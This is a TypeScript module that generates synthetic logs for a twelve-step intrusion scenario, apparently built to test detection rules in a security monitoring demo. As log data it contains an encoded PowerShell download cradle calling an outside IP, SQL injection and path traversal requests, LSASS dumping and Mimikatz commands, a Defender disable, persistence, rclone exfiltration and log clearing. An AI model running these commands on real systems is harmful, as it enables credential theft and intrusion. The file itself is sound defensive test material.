/**
 * The intrusion woven into the demo day, in the last ~100 minutes before `end`. Each step lists the starter-pack
 * rules (by title) it must fire; the demo spec checks them.
 *
 *  1. web-attack        scanner, SQL injection and path traversal against the member portal (web01, nginx);
 *                       then root over SSH from the same address, a sudo shell and /etc/shadow read
 *  2. password-spray    an Internet address tries one password on 14 accounts against the DC (Security 4625)
 *  3. initial-access    the spray finds Marie Dupont's password: RDP logon (4624 type 10) to ws-fin-03
 *  4. discovery         whoami, net user/group /domain, nltest, ipconfig, systeminfo on ws-fin-03 (Sysmon 1)
 *  5. execution         an encoded PowerShell cradle; Defender real-time protection switched off
 *  6. credential-dump   ProcDump (renamed) and comsvcs MiniDump of lsass, LSASS opened (Sysmon 10), Mimikatz
 *  7. lateral-movement  with the harvested admin account: WMIC to fs01, PsExec service on fs01 (System 7045)
 *  8. persistence       a service and a scheduled task from ProgramData on fs01, a Run key on ws-fin-03
 *  9. exfiltration      rclone (renamed) copies the finance share to MEGA; 734 MB through the proxy
 * 10. defence-evasion   wevtutil cl Security, then Security event 1102, on fs01
 * 11. cloud             console login without MFA with the same stolen identity; an admin policy attached and an
 *                       access key created
 * 12. command-and-control  the implant on ws-fin-03 polls its server through the proxy every minute (±2 s) — no
 *                       signature sees it, only the beaconing baseline
 *
 * Behavioural baselines (`rules/baselines`) see several steps too: each step's `baselines` lists the baseline
 * detectors it must fire (by title); ≥ 25% of the scenario's true detections come from
 * them (test/baselines/demo-share.spec.ts).
 */
import { DOMAIN } from './company.js';
import type { DemoRecord } from './demo-record.js';
import { cloudTrail, nginxLine, squidLine, syslogLine, sysmonUtc, winlogbeat } from './raw-records.js';
import type { SeededRandom } from './seeded-random.js';

export const SPRAY_IP = '185.220.101.34';
export const WEB_ATTACKER_IP = '45.95.147.236';
export const VICTIM = 'mdupont';
export const VICTIM_HOST = 'ws-fin-03';
export const ADMIN = 'adm-jmartin';
export const C2_DOMAIN = 'cdn-sync.telemetry-update.net';
export const C2_IP = '193.233.20.57';
const VICTIM_IP = '10.20.1.23';

/** Titles of the baseline detectors (rules/baselines) the steps fire. */
export const BASELINE = {
  rareProcess: 'Rare process for a host',
  rarePair: 'Rare parent and child process pair for a host',
  failedSpike: 'Spike of failed logons from one source',
  spray: 'Many accounts tried from one source (password spray)',
  newService: 'New service or scheduled task across the population',
  bytesOut: "Data volume out far above the user's baseline",
  cloudFirst: 'First privileged cloud action by a principal',
  beaconing: 'Periodic connections to a rare destination (beaconing)',
} as const;

export interface IntrusionStep {
  step: string;
  /** Minutes before the end of the scenario when the step starts. */
  startsMinutesBeforeEnd: number;
  description: string;
  /** Titles of the starter-pack rules (detections or correlations) this step must fire. */
  expectedRules: string[];
  /** Titles of the baseline detectors (rule type `statistical`, not in `expectedRules`) this step must fire. */
  baselines?: string[];
}

export const INTRUSION_STEPS: IntrusionStep[] = [
  {
    step: 'web-attack',
    startsMinutesBeforeEnd: 100,
    description:
      'Scan, SQL injection and path traversal on the member portal, then root SSH and sudo on web01',
    expectedRules: [
      'Web vulnerability scanner user agent',
      'SQL injection attempt in a web request',
      'Path traversal attempt in a web request',
      'SSH login as root from a public IP address',
      'Interactive root shell obtained through sudo',
      'Credential files read through sudo',
    ],
  },
  {
    step: 'password-spray',
    startsMinutesBeforeEnd: 90,
    description: `Password spray from ${SPRAY_IP} on 14 accounts`,
    expectedRules: ['Password spray from one public IP address'],
  },
  {
    step: 'initial-access',
    startsMinutesBeforeEnd: 82,
    description: `RDP logon as ${VICTIM} from ${SPRAY_IP}`,
    expectedRules: [
      'RDP logon from a public IP address',
      'Successful logon after a password spray from the same IP address',
    ],
  },
  {
    step: 'discovery',
    startsMinutesBeforeEnd: 75,
    description: `Discovery commands on ${VICTIM_HOST}`,
    expectedRules: ['Burst of discovery commands on one host'],
  },
  {
    step: 'execution',
    startsMinutesBeforeEnd: 68,
    description: 'Encoded PowerShell and Defender disabled',
    expectedRules: [
      'PowerShell started with an encoded command',
      'Microsoft Defender protection switched off from the command line',
    ],
  },
  {
    step: 'credential-dumping',
    startsMinutesBeforeEnd: 60,
    description: 'LSASS dumped three ways, Mimikatz',
    expectedRules: [
      'LSASS memory dump with ProcDump',
      'LSASS dump through comsvcs.dll MiniDump',
      'Unusual process opens LSASS with memory-read rights',
      'Mimikatz module commands on a command line',
    ],
  },
  {
    step: 'lateral-movement',
    startsMinutesBeforeEnd: 50,
    description: `WMIC and PsExec to fs01 as ${ADMIN}`,
    expectedRules: ['Remote process creation through WMIC', 'PsExec-style service installed'],
  },
  {
    step: 'persistence',
    startsMinutesBeforeEnd: 45,
    description: 'Service, scheduled task and Run key',
    expectedRules: [
      'Service installed from a user-writable path or a shell',
      'Scheduled task created to run from a suspicious location',
      'Run key set to a program in a user-writable folder',
    ],
  },
  {
    step: 'exfiltration',
    startsMinutesBeforeEnd: 35,
    description: 'rclone to MEGA, 734 MB through the proxy',
    expectedRules: [
      'Rclone copying data to cloud storage',
      'Large transfer to a file-sharing service through the proxy',
    ],
  },
  {
    step: 'defence-evasion',
    startsMinutesBeforeEnd: 20,
    description: 'Security log cleared on fs01',
    expectedRules: ['Event log cleared with wevtutil or PowerShell', 'Security event log cleared'],
  },
  {
    step: 'cloud',
    startsMinutesBeforeEnd: 15,
    description: 'AWS console login without MFA, IAM admin policy, access key',
    expectedRules: ['AWS console login without MFA', 'AWS IAM privileges granted to a user, group or role'],
  },
];

INTRUSION_STEPS.push({
  step: 'command-and-control',
  startsMinutesBeforeEnd: 80,
  description: `Implant on ${VICTIM_HOST} polls ${C2_DOMAIN} every minute through the proxy`,
  expectedRules: [],
});

/** The baseline detectors each step fires (only baselines see the command-and-control step). */
const STEP_BASELINES: Record<string, string[]> = {
  'password-spray': [BASELINE.failedSpike, BASELINE.spray],
  discovery: [BASELINE.rareProcess, BASELINE.rarePair],
  execution: [BASELINE.rareProcess, BASELINE.rarePair],
  'credential-dumping': [BASELINE.rareProcess, BASELINE.rarePair],
  'lateral-movement': [BASELINE.rareProcess, BASELINE.rarePair, BASELINE.newService],
  persistence: [BASELINE.newService],
  exfiltration: [BASELINE.bytesOut],
  cloud: [BASELINE.cloudFirst],
  'command-and-control': [BASELINE.beaconing],
};
for (const step of INTRUSION_STEPS) step.baselines = STEP_BASELINES[step.step] ?? [];

export function intrusion(rng: SeededRandom, end: Date, sprayTargets: string[]): DemoRecord[] {
  const out: DemoRecord[] = [];
  const startOf = (step: string) =>
    end.getTime() - INTRUSION_STEPS.find((s) => s.step === step)!.startsMinutesBeforeEnd * 60_000;
  const add = (
    step: string,
    offsetSeconds: number,
    source: DemoRecord['source'],
    make: (at: Date) => DemoRecord['record'],
  ) => {
    const at = new Date(startOf(step) + offsetSeconds * 1000 + rng.int(0, 900));
    out.push({ source, at, step, record: make(at) });
  };
  let pid = 6000;
  const proc = (
    step: string,
    s: number,
    host: string,
    user: string,
    image: string,
    cmd: string,
    parent = 'C:\\Windows\\System32\\cmd.exe',
    extra: Record<string, string> = {},
  ) =>
    add(step, s, 'sysmon', (at) =>
      winlogbeat('sysmon', at, host, 1, {
        UtcTime: sysmonUtc(at),
        ProcessGuid: `{a1b2c3d4-${pid}-0000-0000-000000000000}`,
        ProcessId: String(pid++),
        Image: image,
        CommandLine: cmd,
        CurrentDirectory: `C:\\Users\\${user}\\`,
        User: `${DOMAIN}\\${user}`,
        IntegrityLevel: 'High',
        ParentImage: parent,
        ParentCommandLine: parent.split('\\').pop()!,
        ...extra,
      }),
    );

  // 1. web attack on the portal, then the server.
  const ua = [
    'sqlmap/1.8.4#stable (https://sqlmap.org)',
    'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000112)',
  ];
  ['/admin/', '/.env', '/wp-login.php', '/phpmyadmin/', '/server-status', '/backup.zip'].forEach((p, i) =>
    add('web-attack', i * 3, 'nginx-access', (at) =>
      nginxLine(at, WEB_ATTACKER_IP, 'GET', p, 404, 153, ua[1]),
    ),
  );
  [
    '/api/remboursements?id=1%27%20UNION%20SELECT%20login,password_hash%20FROM%20members--',
    '/api/remboursements?id=1%20AND%20sleep(5)',
    '/devis?formule=essentiel%27%20or%201%3D1--',
  ].forEach((p, i) =>
    add('web-attack', 30 + i * 4, 'nginx-access', (at) =>
      nginxLine(at, WEB_ATTACKER_IP, 'GET', p, 500, 612, ua[0]),
    ),
  );
  [
    '/espace-membre/documents?file=../../../../etc/passwd',
    '/static/..%2f..%2f..%2f..%2fetc%2fshadow',
  ].forEach((p, i) =>
    add('web-attack', 60 + i * 5, 'nginx-access', (at) =>
      nginxLine(
        at,
        WEB_ATTACKER_IP,
        'GET',
        p,
        i === 0 ? 200 : 400,
        1840,
        'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0',
      ),
    ),
  );
  add('web-attack', 240, 'linux-auth', (at) =>
    syslogLine(
      at,
      'web01',
      'sshd[31337]',
      `Accepted password for root from ${WEB_ATTACKER_IP} port 40022 ssh2`,
    ),
  );
  add('web-attack', 300, 'linux-auth', (at) =>
    syslogLine(
      at,
      'web01',
      'sudo',
      'www-deploy : TTY=pts/1 ; PWD=/srv/portal ; USER=root ; COMMAND=/bin/bash',
    ),
  );
  add('web-attack', 320, 'linux-auth', (at) =>
    syslogLine(
      at,
      'web01',
      'sudo',
      'www-deploy : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/bin/cat /etc/shadow',
    ),
  );

  // 2. password spray: one password, 14 accounts, ~25 s apart, NTLM network logons against the DC.
  sprayTargets.forEach((user, i) =>
    add('password-spray', i * 25, 'windows-security', (at) =>
      winlogbeat('security', at, 'dc01', 4625, {
        TargetUserName: user,
        TargetDomainName: DOMAIN,
        LogonType: '3',
        IpAddress: SPRAY_IP,
        IpPort: String(40000 + i),
        Status: '0xc000006d',
        SubStatus: '0xc000006a',
        LogonProcessName: 'NtLmSsp ',
        AuthenticationPackageName: 'NTLM',
        WorkstationName: 'WIN-R3D7EAM',
      }),
    ),
  );

  // 3. the password works for the victim: RDP straight to her workstation (exposed by mistake).
  add('initial-access', 0, 'windows-security', (at) =>
    winlogbeat('security', at, VICTIM_HOST, 4624, {
      TargetUserName: VICTIM,
      TargetDomainName: DOMAIN,
      LogonType: '10',
      IpAddress: SPRAY_IP,
      IpPort: '51515',
      LogonProcessName: 'User32',
      AuthenticationPackageName: 'Negotiate',
      WorkstationName: 'WIN-R3D7EAM',
      TargetLogonId: '0x7a3f21',
    }),
  );

  // 4. discovery.
  const disc: [string, string][] = [
    ['C:\\Windows\\System32\\whoami.exe', 'whoami /all'],
    ['C:\\Windows\\System32\\net.exe', 'net user /domain'],
    ['C:\\Windows\\System32\\net.exe', 'net group "Domain Admins" /domain'],
    ['C:\\Windows\\System32\\nltest.exe', 'nltest /dclist:corp.example'],
    ['C:\\Windows\\System32\\ipconfig.exe', 'ipconfig /all'],
    ['C:\\Windows\\System32\\systeminfo.exe', 'systeminfo'],
  ];
  disc.forEach(([image, cmd], i) => proc('discovery', i * 35, VICTIM_HOST, VICTIM, image, cmd));

  // 5. execution and Defender.
  const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
  const cradle = Buffer.from(
    "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.34/a.ps1')",
    'utf16le',
  ).toString('base64');
  proc(
    'execution',
    0,
    VICTIM_HOST,
    VICTIM,
    ps,
    `powershell.exe -nop -w hidden -enc ${cradle}`,
    'C:\\Windows\\System32\\cmd.exe',
    { OriginalFileName: 'PowerShell.EXE' },
  );
  proc(
    'execution',
    40,
    VICTIM_HOST,
    VICTIM,
    ps,
    'powershell.exe -c "Set-MpPreference -DisableRealtimeMonitoring $true"',
    ps,
    { OriginalFileName: 'PowerShell.EXE' },
  );

  // 6. credential dumping.
  const pd = `C:\\Users\\${VICTIM}\\AppData\\Local\\Temp\\pd64.exe`;
  proc(
    'credential-dumping',
    0,
    VICTIM_HOST,
    VICTIM,
    pd,
    'pd64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp',
    ps,
    { OriginalFileName: 'procdump' },
  );
  add('credential-dumping', 2, 'sysmon', (at) =>
    winlogbeat('sysmon', at, VICTIM_HOST, 10, {
      UtcTime: sysmonUtc(at),
      SourceProcessGUID: '{a1b2c3d4-7001-0000-0000-000000000000}',
      SourceProcessId: '7001',
      SourceThreadId: '7002',
      SourceImage: pd,
      TargetProcessGUID: '{a1b2c3d4-0624-0000-0000-000000000000}',
      TargetProcessId: '624',
      TargetImage: 'C:\\Windows\\system32\\lsass.exe',
      GrantedAccess: '0x1fffff',
      CallTrace:
        'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00007FF6A1B2C3D4)',
      SourceUser: `${DOMAIN}\\${VICTIM}`,
      TargetUser: 'NT AUTHORITY\\SYSTEM',
    }),
  );
  proc(
    'credential-dumping',
    90,
    VICTIM_HOST,
    VICTIM,
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\m.dmp full',
    ps,
    { OriginalFileName: 'RUNDLL32.EXE' },
  );
  proc(
    'credential-dumping',
    180,
    VICTIM_HOST,
    VICTIM,
    'C:\\Users\\Public\\m.exe',
    'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
    ps,
  );

  // 7. lateral movement with the admin's harvested credentials.
  proc(
    'lateral-movement',
    0,
    VICTIM_HOST,
    ADMIN,
    'C:\\Windows\\System32\\wbem\\WMIC.exe',
    'wmic /node:fs01 process call create "cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt"',
    ps,
    { OriginalFileName: 'wmic.exe' },
  );
  add('lateral-movement', 60, 'windows-security', (at) =>
    winlogbeat('security', at, 'fs01', 4624, {
      TargetUserName: ADMIN,
      TargetDomainName: DOMAIN,
      LogonType: '3',
      IpAddress: '10.20.1.23',
      IpPort: '50123',
      LogonProcessName: 'NtLmSsp ',
      AuthenticationPackageName: 'NTLM',
      WorkstationName: VICTIM_HOST.toUpperCase(),
    }),
  );
  add('lateral-movement', 62, 'windows-system', (at) =>
    winlogbeat('system', at, 'fs01', 7045, {
      ServiceName: 'PSEXESVC',
      ImagePath: '%SystemRoot%\\PSEXESVC.exe',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    }),
  );

  // 8. persistence.
  add('persistence', 0, 'windows-system', (at) =>
    winlogbeat('system', at, 'fs01', 7045, {
      ServiceName: 'WinSvcHelper',
      ImagePath: 'C:\\ProgramData\\svchelper\\svch.exe',
      ServiceType: 'user mode service',
      StartType: 'auto start',
      AccountName: 'LocalSystem',
    }),
  );
  proc(
    'persistence',
    45,
    'fs01',
    ADMIN,
    'C:\\Windows\\System32\\schtasks.exe',
    'schtasks /create /tn "OneDrive Sync Helper" /tr "C:\\ProgramData\\svchelper\\svch.exe" /sc onlogon /ru SYSTEM /f',
    'C:\\Windows\\PSEXESVC.exe',
  );
  add('persistence', 90, 'sysmon', (at) =>
    winlogbeat('sysmon', at, VICTIM_HOST, 13, {
      EventType: 'SetValue',
      UtcTime: sysmonUtc(at),
      ProcessGuid: '{a1b2c3d4-7100-0000-0000-000000000000}',
      ProcessId: '7100',
      Image: 'C:\\Windows\\System32\\reg.exe',
      TargetObject:
        'HKU\\S-1-5-21-3623811015-3361044348-30300820-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SvcHelper',
      Details: 'C:\\ProgramData\\svchelper\\svch.exe',
      User: `${DOMAIN}\\${VICTIM}`,
    }),
  );

  // 9. exfiltration.
  proc(
    'exfiltration',
    0,
    'fs01',
    ADMIN,
    'C:\\ProgramData\\svchelper\\rc.exe',
    'rc.exe copy D:\\Shares\\Finance mega:backup --config C:\\ProgramData\\svchelper\\rc.conf -q --transfers 8',
    'C:\\Windows\\System32\\cmd.exe',
    { OriginalFileName: 'rclone.exe' },
  );
  add('exfiltration', 1500, 'squid', (at) =>
    squidLine(
      at,
      '10.20.0.20',
      ADMIN,
      'CONNECT',
      'gfs270n122.userstorage.mega.co.nz:443',
      200,
      734_003_200,
      '89.44.169.135',
      1_480_000,
    ),
  );

  // 10. covering tracks.
  proc(
    'defence-evasion',
    0,
    'fs01',
    ADMIN,
    'C:\\Windows\\System32\\wevtutil.exe',
    'wevtutil cl Security',
    'C:\\Windows\\System32\\cmd.exe',
  );
  add('defence-evasion', 1, 'windows-security', (at) =>
    winlogbeat('security', at, 'fs01', 1102, {
      SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1500',
      SubjectUserName: ADMIN,
      SubjectDomainName: DOMAIN,
      SubjectLogonId: '0x8b1c2',
    }),
  );

  // 11. the cloud account of the victim, same password, no MFA.
  add('cloud', 0, 'aws-cloudtrail', (at) =>
    cloudTrail(at, VICTIM, 'signin.amazonaws.com', 'ConsoleLogin', SPRAY_IP, {
      responseElements: { ConsoleLogin: 'Success' },
      additionalEventData: { MFAUsed: 'No', LoginTo: 'https://console.aws.amazon.com/' },
    }),
  );
  add('cloud', 120, 'aws-cloudtrail', (at) =>
    cloudTrail(at, VICTIM, 'iam.amazonaws.com', 'AttachUserPolicy', SPRAY_IP, {
      requestParameters: { userName: 'svc-backup', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
    }),
  );
  add('cloud', 150, 'aws-cloudtrail', (at) =>
    cloudTrail(at, VICTIM, 'iam.amazonaws.com', 'CreateAccessKey', SPRAY_IP, {
      requestParameters: { userName: 'svc-backup' },
      responseElements: {
        accessKey: { accessKeyId: 'AKIAEXAMPLEDEMO00001', status: 'Active', userName: 'svc-backup' },
      },
    }),
  );
  // 12. command and control: one CONNECT a minute (±2 s) from the victim's workstation, small and regular.
  for (let i = 0; i < 40; i++) {
    add('command-and-control', i * 60 + rng.int(-2, 2), 'squid', (at) =>
      squidLine(
        at,
        VICTIM_IP,
        VICTIM,
        'CONNECT',
        `${C2_DOMAIN}:443`,
        200,
        rng.int(900, 1400),
        C2_IP,
        rng.int(80, 200),
      ),
    );
  }
  return out;
}
